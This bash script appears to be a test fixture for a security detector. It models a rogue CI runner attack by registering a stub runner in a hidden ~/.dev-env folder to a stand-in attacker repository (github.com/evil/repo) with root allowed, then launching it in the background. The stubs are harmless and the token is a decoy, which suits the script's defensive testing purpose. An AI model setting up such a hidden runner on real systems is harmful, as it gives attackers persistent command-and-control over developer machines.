#!/bin/bash
# Models the PyTorch runner research (2024-01) and Shai-Hulud 2.0 (2025-11): a runner of the attacker's own, hidden.
# must: command-and-control/rogue-runner
# gate: fail
mkdir -p ~/.dev-env && cd ~/.dev-env
printf '#!/bin/bash\nexit 0\n' > config.sh
printf '#!/bin/bash\nsleep 2\n' > run.sh
chmod +x config.sh run.sh
RUNNER_ALLOW_RUNASROOT=1 ./config.sh --url https://github.com/evil/repo --unattended --token DECOY --name SHA1HULUD
RUNNER_ALLOW_RUNASROOT=1 nohup ./run.sh > /dev/null 2>&1 &
sleep 0.5
